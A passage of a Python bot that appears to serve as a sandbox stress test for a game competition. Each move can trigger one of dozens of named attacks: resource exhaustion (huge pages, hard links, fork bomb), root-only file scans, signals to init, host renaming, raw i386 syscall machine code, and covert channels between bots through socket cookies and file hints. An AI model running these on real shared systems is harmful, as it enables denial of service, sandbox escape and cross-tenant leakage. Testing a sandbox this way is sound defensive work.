    """Make hard links in its scratch folder and in /dev/shm until refused: they take no space, and
    the kernel frees them all at once as the folder goes (3 million took the referee 3.2 s). Say
    how many each took."""
    for folder in (os.environ["HOME"], "/dev/shm"):
        target = os.path.join(folder, "target")
        with open(target, "wb"):
            pass
        made = 0
        with contextlib.suppress(OSError):
            while made < 1_000_000:
                os.link(target, os.path.join(folder, str(made)))
                made += 1
        say(f"{folder}: {made} links")


HUGE = 2 << 20  # one huge page (x86-64, aarch64 with 4 KiB pages)
MAP_HUGETLB, SHM_HUGETLB, MFD_HUGETLB = 0x40000, 0o4000, 0x4


def _libc_mmap():
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *(ctypes.c_int,) * 3, ctypes.c_long]
    libc.syscall.restype = ctypes.c_long
    return libc


def _touch(address, size=HUGE):
    """Write each huge page of a mapping: only then does the kernel give the pages."""
    for offset in range(0, size, HUGE):
        ctypes.c_ubyte.from_address(address + offset).value = 1


def _mapped(libc, address):
    if address in (None, ctypes.c_void_p(-1).value):
        return os.strerror(ctypes.get_errno())
    _touch(address)
    return f"took {HUGE >> 20} MiB"


def i386_call_low(code, data):
    """As ``i386_call``, with ``data`` below 4 GiB (where an i386 call can point): ``code(address)``
    makes the machine code, given the data's address."""
    import mmap

    libc = _libc_mmap()
    prot = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
    page = libc.mmap(None, 4096, prot, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, -1, 0)  # MAP_32BIT
    ctypes.memmove(page + 2048, data, len(data))
    text = code(page + 2048)
    ctypes.memmove(page, text, len(text))
    return ctypes.CFUNCTYPE(ctypes.c_int)(page)()


# i386 mmap2(0, 2 MiB, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_HUGETLB, -1, 0) by
# int 0x80: push rbx; push rbp; mov eax, 192; xor ebx, ebx; mov ecx, 0x200000; mov edx, 3;
# mov esi, 0x40022; mov edi, -1; xor ebp, ebp; int 0x80; pop rbp; pop rbx; ret.
I386_MMAP2_HUGE = bytes.fromhex("5355b8c000000031dbb900002000ba03000000be22000400bfffffffff31edcd805d5bc3")
# i386 ipc(SHMGET, IPC_PRIVATE, 2 MiB, IPC_CREAT | SHM_HUGETLB | 0600, 0, 0): push rbx; push rbp;
# mov eax, 117; mov ebx, 23; xor ecx, ecx; mov edx, 0x200000; mov esi, 0xb80; xor edi, edi;
# xor ebp, ebp; int 0x80; pop rbp; pop rbx; ret.
I386_IPC_SHMGET_HUGE = bytes.fromhex("5355b875000000bb1700000031c9ba00002000be800b000031ff31edcd805d5bc3")


def _i386_old_mmap(arguments):
    """i386's old mmap (90), its arguments in memory: push rbx; mov eax, 90; mov ebx, ADDRESS;
    int 0x80; pop rbx; ret."""
    return bytes.fromhex("53b85a000000bb") + arguments.to_bytes(4, "little") + bytes.fromhex("cd805bc3")


def huge_pages():
    """Hold huge pages, which come out of the machine's one pool and which no memory cgroup counts:
    by mmap(MAP_HUGETLB), shmget(SHM_HUGETLB), memfd_create(MFD_HUGETLB), and through the i386
    ABI by mmap2, the ipc multiplexer's SHMGET and the old mmap."""
    import mmap
    import struct

    libc = _libc_mmap()
    read_write, anonymous = mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    address = libc.mmap(None, HUGE, read_write, anonymous | MAP_HUGETLB, -1, 0)
    say("mmap MAP_HUGETLB: " + _mapped(libc, address))
    segment = libc.shmget(0, ctypes.c_size_t(HUGE), 0o1600 | SHM_HUGETLB)  # IPC_CREAT | 0600
    if segment < 0:
        say(f"shmget SHM_HUGETLB: {os.strerror(ctypes.get_errno())}")
    else:
        libc.shmat.restype = ctypes.c_void_p
        say("shmget SHM_HUGETLB: " + _mapped(libc, libc.shmat(segment, None, 0)))
    memfd_create = {"x86_64": 319, "aarch64": 279}[os.uname().machine]
    fd = libc.syscall(memfd_create, b"huge", MFD_HUGETLB)
    if fd < 0:
        say(f"memfd_create MFD_HUGETLB: {os.strerror(ctypes.get_errno())}")
    else:
        os.ftruncate(fd, HUGE)
        address = libc.mmap(None, HUGE, read_write, mmap.MAP_SHARED, fd, 0)
        say("memfd_create MFD_HUGETLB: " + _mapped(libc, address))
    if os.uname().machine != "x86_64":
        return
    for name, code in (("mmap2", I386_MMAP2_HUGE), ("ipc SHMGET", I386_IPC_SHMGET_HUGE)):
        result = i386_call(code)
        say(f"i386 {name}: " + (os.strerror(-result) if -4096 < result < 0 else "made"))
    arguments = struct.pack("<6I", 0, HUGE, read_write, anonymous | MAP_HUGETLB, 0xFFFFFFFF, 0)
    result = i386_call_low(_i386_old_mmap, arguments)
    say("i386 old mmap: " + (os.strerror(-result) if -4096 < result < 0 else "made"))


def hugetlbfs_file():
    """Map a file on the machine's hugetlbfs mount privately, writable (a file read only to it):
    each page written is a huge page of the machine's pool, counted by no memory limit."""
    import mmap

    libc = _libc_mmap()
    try:
        say(f"listing {os.path.dirname(args[0])}: {os.listdir(os.path.dirname(args[0]))}")
        fd = os.open(args[0], os.O_RDONLY)
    except OSError as exc:
        say(f"hugetlbfs file: {exc.strerror}")
        return
    address = libc.mmap(None, HUGE, mmap.PROT_READ | mmap.PROT_WRITE, mmap.MAP_PRIVATE, fd, 0)
    say("hugetlbfs file: " + _mapped(libc, address))


def mount_options():
    """Say the options of each mount named in args, as its /proc/self/mounts shows them."""
    with open("/proc/self/mounts") as f:
        table = [line.split() for line in f]
    for point in args:
        options = [fields[3] for fields in table if fields[1] == point]
        say(f"{point}: {options[-1] if options else 'not mounted'}")


def realtime():
    """Ask for real-time or raised scheduling and real-time disk priority: each would let it
    escape its one-processor share or its fair turn at the disk."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    for name, policy in (("fifo", os.SCHED_FIFO), ("rr", os.SCHED_RR)):
        try:
            os.sched_setscheduler(0, policy, os.sched_param(1))
            say(f"sched {name}: granted")
        except OSError as exc:
            say(f"sched {name}: {exc.strerror}")
    # sched_setattr(0, {size 48, SCHED_DEADLINE 6, runtime 10 ms, deadline = period 30 ms}, 0)
    attr = (ctypes.c_uint32 * 12)(48, 6, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0)
    times = ctypes.cast(ctypes.byref(attr, 16), ctypes.POINTER(ctypes.c_uint64))
    times[0], times[1], times[2] = 10_000_000, 30_000_000, 30_000_000
    number = {"x86_64": 314, "aarch64": 274}[os.uname().machine]
    if libc.syscall(number, 0, attr, 0) == 0:
        say("sched deadline: granted")
    else:
        say(f"sched deadline: {os.strerror(ctypes.get_errno())}")
    try:
        os.setpriority(os.PRIO_PROCESS, 0, -5)
        say("nice -5: granted")
    except OSError as exc:
        say(f"nice -5: {exc.strerror}")
    # ioprio_set(IOPRIO_WHO_PROCESS 1, 0, class RT 1 << 13 | level 0)
    number = {"x86_64": 251, "aarch64": 30}[os.uname().machine]
    if libc.syscall(number, 1, 0, 1 << 13) == 0:
        say("io realtime: granted")
    else:
        say(f"io realtime: {os.strerror(ctypes.get_errno())}")


def cache_probe():
    """Read which pages of a file of the machine its file cache holds, without reading them: with
    mincore on a mapping, and with cachestat (marks a bot left there outlive its game)."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = (
        ctypes.c_void_p,
        ctypes.c_size_t,
        ctypes.c_int,
        ctypes.c_int,
        ctypes.c_int,
        ctypes.c_long,
    )
    libc.syscall.restype = ctypes.c_long
    size = 16 * os.sysconf("SC_PAGE_SIZE")
    with open(os.path.realpath(sys.executable), "rb") as f:
        address = libc.mmap(None, size, 1, 1, f.fileno(), 0)  # PROT_READ, MAP_SHARED
        pages = ctypes.create_string_buffer(16)
        done = libc.mincore(ctypes.c_void_p(address), ctypes.c_size_t(size), pages)
        cached = sum(b & 1 for b in pages.raw)
        say("mincore: " + (f"{cached} of 16 pages cached" if done == 0 else os.strerror(ctypes.get_errno())))
        span, stat = ctypes.create_string_buffer(16), ctypes.create_string_buffer(64)  # zeroed: all
        done = libc.syscall(ctypes.c_long(451), f.fileno(), span, stat, 0)
        say("cachestat: " + ("read" if done == 0 else os.strerror(ctypes.get_errno())))


def root_files():
    """Read the files of its /proc only root may read, which tell of the whole machine (the flags,
    use counts and memory cgroups of its physical pages, every process's timers, the kernel's
    memory) or make it work (``sys/vm/stat_refresh``: each read runs work on every core): the
    names in ``args``, as the machine has them (in /proc, or a path). A file covered is a character
    device."""
    import stat

    for name in args:
        path = name if name.startswith("/") else f"/proc/{name}"
        try:
            if stat.S_ISCHR(os.stat(path).st_mode):
                say(f"{name}: covered")
                continue
            with open(path, "rb") as f:
                say(f"{name}: {len(f.read(4096))} bytes")
        except OSError as exc:
            say(f"{name}: {exc.strerror}")


def cgroup_mounts():
    """List the cgroup file systems its mount table shows: each root (as its cgroup namespace sees
    it) and mount point. The machine's, under the covers, made a JVM size its heap by them."""
    with open("/proc/self/mountinfo") as table:
        for line in table:
            fields = line.split()
            kind = fields[fields.index("-") + 1]
            if kind in ("cgroup", "cgroup2"):
                say(f"{kind} {fields[3]} at {fields[4]}")


def secret_memory():
    """Map secret memory (memfd_secret): each page is taken out of the kernel's direct map of
    memory, which stays split after the game."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    fd = libc.syscall(ctypes.c_long(447), 0)
    say("memfd_secret: " + ("opened" if fd >= 0 else os.strerror(ctypes.get_errno())))


def flow_labels():
    """Take an IPv6 flow label (IPV6_FLOWLABEL_MGR), of which the machine has 4,096 for all."""
    request = bytearray(32)  # struct in6_flowlabel_req: dst, label, action, share, flags, expires...
    request[0:16] = socket.inet_pton(socket.AF_INET6, "::1")
    request[16:20] = (0x12345).to_bytes(4, "big")  # the label
    request[20] = 0  # IPV6_FL_A_GET
    request[21] = 1  # IPV6_FL_S_EXCL
    request[22:24] = (1).to_bytes(2, sys.byteorder)  # IPV6_FL_F_CREATE
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
        try:
            s.setsockopt(41, 32, bytes(request))  # IPPROTO_IPV6, IPV6_FLOWLABEL_MGR
            say("flow label: taken")
        except OSError as exc:
            say(f"flow label: {exc.strerror}")


def udp_switches():
    """Turn on UDP encapsulation and UDP GRO on a socket and close it: the first socket of the
    machine to turn one on, and the last to turn it off, flip a switch of the kernel's (code
    patched, every core interrupted)."""
    for level in (17, 136):  # IPPROTO_UDP, SOL_UDPLITE
        for option, value, name in ((100, 2, "UDP_ENCAP"), (104, 1, "UDP_GRO")):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                try:
                    s.setsockopt(level, option, value)  # UDP_ENCAP_ESPINUDP for UDP_ENCAP
                    say(f"{name} at {level}: on")
                except OSError as exc:
                    say(f"{name} at {level}: {exc.strerror}")


def sysv_ipc():
    """Reach the machine's System V shared memory segment and message queue by their keys
    (args: both keys, hex), and leave a segment of its own behind (args: its key, hex): each would
    pass data to or from another game's bot, or outlive the game in kernel memory."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
    libc.msgget.argtypes = (ctypes.c_int, ctypes.c_int)
    segment_key, queue_key, own_key = (int(arg, 16) for arg in args)
    for name, result in (
        ("machine's segment", libc.shmget(segment_key, 0, 0)),
        ("machine's queue", libc.msgget(queue_key, 0)),
        ("own segment", libc.shmget(own_key, 4096, 0o1000 | 0o600)),  # IPC_CREAT
    ):
        say(f"{name}: {'found' if result >= 0 else os.strerror(ctypes.get_errno())}")


def hostname():
    """Rename the machine (its name in the other bots' and the referee's logs, its services')."""
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.sethostname(b"pwned", 5) == 0
    say(f"sethostname: {'done' if done else os.strerror(ctypes.get_errno())}")
    say(f"namespace: {os.readlink('/proc/self/ns/uts')}")


def open_files():
    """Open files until refused: its limit of open files, and what it was refused with."""
    soft, hard = __import__("resource").getrlimit(7)  # RLIMIT_NOFILE
    already = len(os.listdir("/proc/self/fd")) - 1  # the listing's own descriptor aside
    opened = []
    try:
        while len(opened) < 1 << 16:
            opened.append(os.open("/dev/null", os.O_RDONLY))
        say(f"limit {soft} {hard}, opened {len(opened)} of {already} open, no refusal")
    except OSError as exc:
        say(f"limit {soft} {hard}, opened {len(opened)} of {already} open, then {exc.strerror}")
    for fd in opened:
        os.close(fd)


def memory_files():
    """Say each memory limit its cgroup views show it (a limit on swap beside the memory's)."""
    wanted = ("memory.max", "memory.swap.max", "memory.limit_in_bytes", "memory.memsw.limit_in_bytes")
    for root, _, files in os.walk("/sys/fs/cgroup"):
        for name in sorted(set(files) & set(wanted)):
            with open(os.path.join(root, name)) as f:
                say(f"{name}: {f.read().strip()}")


def time_stamps():
    """Ask for packet time stamps and stop, on a new socket each time, in a loop: the first socket
    of the machine to ask and the last to stop flip a switch of the kernel's."""
    for _ in range(2000):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.setsockopt(socket.SOL_SOCKET, 29, 1)  # SO_TIMESTAMP
            s.setsockopt(socket.SOL_SOCKET, 29, 0)
    say("toggled 2000 times")


def root_only_scan():
    """Walk its /proc (but the processes' folders) and its /sys (but its own cgroups) for plain
    files only root may read (its owner; or its group, when that is root's: modes 0400, 0600,
    0440, 0640), and read each: found by their modes, not by the referee's list of what it covers
    (a covered file is a character device)."""
    import stat

    scanned = 0
    for top in ("/proc", "/sys"):
        for folder, subfolders, files in os.walk(top):
            if folder == "/proc":
                subfolders[:] = [name for name in subfolders if not name.isdigit()]
            subfolders[:] = [name for name in subfolders if f"{folder}/{name}" != "/sys/fs/cgroup"]
            for name in files:
                path = f"{folder}/{name}"
                try:
                    found = os.lstat(path)
                except OSError:
                    continue
                mode = found.st_mode
                if not stat.S_ISREG(mode) or mode & 0o004 or not mode & 0o440:
                    continue
                if mode & 0o040 and found.st_gid != 0:  # its group's too
                    continue
                scanned += 1
                try:
                    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
                except OSError:
                    continue
                try:
                    if os.read(fd, 64):
                        say(f"read {path}")
                except OSError:
                    pass
                finally:
                    os.close(fd)
    say(f"scanned {scanned}")


# socket(AF_INET, SOCK_DGRAM, IPPROTO_UDPLITE) through the i386 ABI (int 0x80), as x86-64 machine
# code: push rbx; mov eax, 359; mov ebx, 2; mov ecx, 2; mov edx, 136; int 0x80; pop rbx; ret.
I386_UDPLITE_SOCKET = bytes.fromhex("53b867010000bb02000000b902000000ba88000000cd805bc3")
# and socket(AF_INET, SOCK_SEQPACKET, 0) the same way: a type AF_INET has not (SCTP's, a module)
I386_SEQPACKET_SOCKET = bytes.fromhex("53b867010000bb02000000b905000000ba00000000cd805bc3")


def socket_protocols():
    """Open sockets of protocols the kernel looks up by number, loading a module for one it has not
    (SCTP, DCCP, L2TP: modprobe, run as root outside the sandbox), and of two built in on many
    kernels (UDP-Lite, Multipath TCP), which tell a refusal of the filter's from the kernel's."""
    for family, kind, protocol, name in (
        (socket.AF_INET, socket.SOCK_STREAM, 132, "SCTP"),
        (socket.AF_INET6, socket.SOCK_SEQPACKET, 132, "SCTP6"),
        (socket.AF_INET, 6, 33, "DCCP"),  # SOCK_DCCP
        (socket.AF_INET, socket.SOCK_DGRAM, 115, "L2TP"),
        (socket.AF_INET, socket.SOCK_DGRAM, 136, "UDP-Lite"),
        (socket.AF_INET6, socket.SOCK_STREAM, 262, "MPTCP"),
        (socket.AF_INET, socket.SOCK_STREAM, 6, "TCP"),
        # types a family has not, and a type and protocol that do not match: the kernel looks for
        # a module for these too (net-pf-2-proto-0-type-5, ...)
        (socket.AF_INET, socket.SOCK_SEQPACKET, 0, "SEQPACKET"),
        (socket.AF_INET6, 6, 0, "DCCP type"),  # SOCK_DCCP
        (socket.AF_INET, socket.SOCK_DGRAM, 6, "TCP datagram"),
        (socket.AF_INET6, socket.SOCK_DGRAM | socket.SOCK_CLOEXEC, 0, "UDP6"),
    ):
        try:
            socket.socket(family, kind, protocol).close()
            say(f"{name}: opened")
        except OSError as exc:
            say(f"{name}: {exc.strerror}")
    try:  # as a course template's PIPE macro asks: protocol PF_UNIX
        for end in socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM, socket.AF_UNIX):
            end.close()
        say("unix pair of PF_UNIX: opened")
    except OSError as exc:
        say(f"unix pair of PF_UNIX: {exc.strerror}")
    if os.uname().machine == "x86_64":
        for name, code in (("UDP-Lite", I386_UDPLITE_SOCKET), ("SEQPACKET", I386_SEQPACKET_SOCKET)):
            result = i386_call(code)
            if result >= 0:
                os.close(result)
            say(f"i386 {name}: " + ("opened" if result >= 0 else os.strerror(-result)))


def signal_init():
    """Send its pid 1, its namespace's init, the signals the referee handles: init ran the
    referee's handlers and exited."""
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGUSR1):
        try:
            os.kill(1, sig)
            say(f"signal {sig.name} sent")
        except OSError as exc:
            say(f"signal {sig.name}: {exc.strerror}")
    time.sleep(0.2)
    say(f"init: {'there' if os.path.exists('/proc/1') else 'gone'}")


EACH_MOVE = []
"""What an attack does again at each of its later moves (a channel to the other bot, a move at a time)."""
SO_COOKIE = 57


def _cookie():
    """A new socket's cookie: the machine's one socket counter, read (and moved by 1)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        return int.from_bytes(sock.getsockopt(socket.SOL_SOCKET, SO_COOKIE, 8), sys.byteorder)


def _on_processor_0():
    """Run on processor 0 only, as the other bot does: the counter is handed out in batches per
    processor, and both bots then take from the same."""
    with contextlib.suppress(OSError):
        os.sched_setaffinity(0, {0})


def cookie_send():
    """Pass the other bot of the game a byte a move through the machine's socket counter: take
    byte(k) cookies at its k-th move."""
    _on_processor_0()
    message = iter(args[0].encode() if args else b"CODECUP")
    failed = []

    def send():
        try:
            for _ in range(next(message, 0)):
                _cookie()
        except OSError as exc:
            if not failed:
                failed.append(exc)
                say(f"cookie: {exc.strerror}")

    send()
    EACH_MOVE.append(send)


def cookie_recv():
    """Read the other bot's byte a move: how far the machine's socket counter moved since its own
    last move (less its own reading)."""
    _on_processor_0()
    last = []

    def receive():
        try:
            now = _cookie()
            if last:
                say(f"cookie advance {now - last[-1] - 1}")
            last.append(_cookie())
        except OSError as exc:
            if not last:
                last.append(0)
                say(f"cookie: {exc.strerror}")

    receive()
    EACH_MOVE.append(receive)


F_GET_RW_HINT, F_SET_RW_HINT = 1035, 1036


def _hint_files():
    """The files whose write-life hints carry the message: the first 64 modules of the standard
    library (files of the machine, uid 0's, that every Python bot sees, read-only)."""
    folder = os.path.dirname(os.__file__)
    return [os.path.join(folder, name) for name in sorted(os.listdir(folder)) if name.endswith(".py")][:64]


def hint_send():
    """Write a word into the machine's inodes: 2 bits a file as its write-life hint (the digit + 1;
    0 is "not set"), set by ``fcntl(F_SET_RW_HINT)`` on a descriptor opened read-only."""
    import fcntl
    import struct

    message = (args[0] if args else "CODECUP").encode()
    digits = [(byte >> shift) & 3 for byte in message for shift in (0, 2, 4, 6)]
    try:
        for path, digit in zip(_hint_files(), digits, strict=False):
            with open(path, "rb") as f:
                fcntl.fcntl(f.fileno(), F_SET_RW_HINT, struct.pack("=Q", digit + 1))
        say("hints set: done")
    except OSError as exc:
        say(f"hints set: {exc.strerror}")


def hint_recv():
    """Read the word back from the hints (``F_GET_RW_HINT``), up to the first file without one."""
    import fcntl
    import struct

    digits = []
    for path in _hint_files():
        with open(path, "rb") as f:
            (hint,) = struct.unpack("=Q", fcntl.fcntl(f.fileno(), F_GET_RW_HINT, bytes(8)))
        if hint == 0:
            break
        digits.append((hint - 1) & 3)
    word = bytes(
        sum(d << (2 * k) for k, d in enumerate(digits[i : i + 4])) for i in range(0, len(digits) - 3, 4)
    )
    say(f"hints read: {word!r}")


FS_IOC_FIEMAP, FIEMAP_FLAG_SYNC = 0xC020660B, 0x1


def _ioctl(fd, command, buffer):
    """``ioctl(fd, command, buffer)``: "done", or the error's text."""
    libc = ctypes.CDLL(None, use_errno=True)
    done = libc.ioctl(fd, ctypes.c_ulong(command), buffer)
    return "done" if done == 0 else os.strerror(ctypes.get_errno())


def fiemap_sync():
    """Ask a file of the machine it may only read for its extents with ``FIEMAP_FLAG_SYNC``: the
    kernel first writes out what others wrote to it and waits for the disk, as ``fsync`` would."""
    import struct

    fiemap = ctypes.create_string_buffer(
        struct.pack("=QQIIII", 0, 2**64 - 1, FIEMAP_FLAG_SYNC, 0, 8, 0) + bytes(8 * 56)
    )
    with open(args[0] if args else os.path.realpath(sys.executable), "rb") as f:
        say(f"fiemap sync: {_ioctl(f.fileno(), FS_IOC_FIEMAP, fiemap)}")


def file_system_marks():
    """ext4's extent-status cache of a file of the machine (read it, clear it, fill it, read the
    inode's state), the disk's allocation map; a sync of every ext4's journal (``quotactl(Q_SYNC)``)
    and the kernel's log (``syslog``)."""
    import struct

    buffer = ctypes.create_string_buffer(struct.pack("=QQIIII", 0, 2**64 - 1, 0, 0, 8, 0) + bytes(4096))
    with open(os.path.realpath(sys.executable), "rb") as f:
        for name, command in (
            ("get extent cache", 0xC020662A),
            ("clear extent cache", 0x6628),
            ("precache extents", 0x6612),
            ("inode state", 0x40046629),
            ("disk map", 0xC0C0583B),
        ):
            say(f"{name}: {_ioctl(f.fileno(), command, buffer)}")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    quotactl, syslog = {"x86_64": (179, 103), "aarch64": (60, 116)}[os.uname().machine]
    done = libc.syscall(ctypes.c_long(quotactl), ctypes.c_uint(0x80000100), None, 0, None)  # Q_SYNC, USRQUOTA
    say("quota sync: " + ("done" if done == 0 else os.strerror(ctypes.get_errno())))
    done = libc.syscall(ctypes.c_long(syslog), 10, None, 0)  # SYSLOG_ACTION_SIZE_BUFFER
    say("kernel log: " + ("read" if done >= 0 else os.strerror(ctypes.get_errno())))


ATTACKS = {
    "mount_options": mount_options,
    "setsid_child": lambda: spawn(forever_sleeping),
    "setsid_child_out_of_its_cgroups": lambda: spawn(out_of_its_cgroups),
    "unmarked_child_out_of_its_cgroups": lambda: spawn(unmarked_out_of_its_cgroups, setsid=False),
    "children_left": children_left,
    "leave_group": leave_group,
    "own_cgroup_files": own_cgroup_files,
    "compute_while_idle": lambda: (spawn(heartbeat), slow_answers()),
    "tcp": tcp,
    "write_everywhere": write_everywhere,
    "kill_everyone": kill_everyone,
    "signal_own_group": signal_own_group,
    "fork_bomb": fork_bomb,
    "memory_hog": memory_hog,
    "disk_filler": disk_filler,
    "big_file": big_file,
    "big_file_python": big_file_python,
    "disk_filler_python": disk_filler_python,
    "file_filler_python": file_filler_python,
    "shm_filler": shm_filler,
    "shm_file_filler_python": shm_file_filler_python,
    "snoop": snoop,
    "escalate": escalate,
    "realtime": realtime,
    "keyring": keyring,
    "inotify_hoard": inotify_hoard,
    "machine_ipc": machine_ipc,
    "user_namespace": user_namespace,
    "exploit_tools": exploit_tools,
    "all_cores": all_cores,
    "uid_quotas": uid_quotas,
    "other_proc": other_proc,
    "machine_locks": machine_locks,
    "cgroups": cgroups,
    "machine_aio": machine_aio,
    "core_helper": core_helper,
    "hold_quotas": hold_quotas,
    "probe_quotas": probe_quotas,
    "drop_cache": drop_cache,
    "netlink_queue": netlink_queue,
    "prefetch": prefetch,
    "direct_io": direct_io,
    "file_table": file_table,
    "many_links": many_links,
    "uncounted_kernel_memory": uncounted_kernel_memory,
    "huge_pages": huge_pages,
    "hugetlbfs_file": hugetlbfs_file,
    "cache_probe": cache_probe,
    "root_files": root_files,
    "cgroup_mounts": cgroup_mounts,
    "secret_memory": secret_memory,
    "flow_labels": flow_labels,
    "signal_init": signal_init,
    "udp_switches": udp_switches,
    "socket_protocols": socket_protocols,
    "cookie_send": cookie_send,
    "cookie_recv": cookie_recv,
    "hint_send": hint_send,
    "hint_recv": hint_recv,
    "fiemap_sync": fiemap_sync,
    "file_system_marks": file_system_marks,
    "sysv_ipc": sysv_ipc,
    "hostname": hostname,
    "open_files": open_files,
    "memory_files": memory_files,
    "time_stamps": time_stamps,
    "root_only_scan": root_only_scan,
}

sys.stdin.readline()  # the start number
think = 0.0
attacked = False
for line in sys.stdin:
    if line.strip() == "Quit":
        break
    if not attacked:
        attacked = True
        ATTACKS[attack]()
    else:
        for again in EACH_MOVE:
            again()
    time.sleep(think)
    print("1", flush=True)
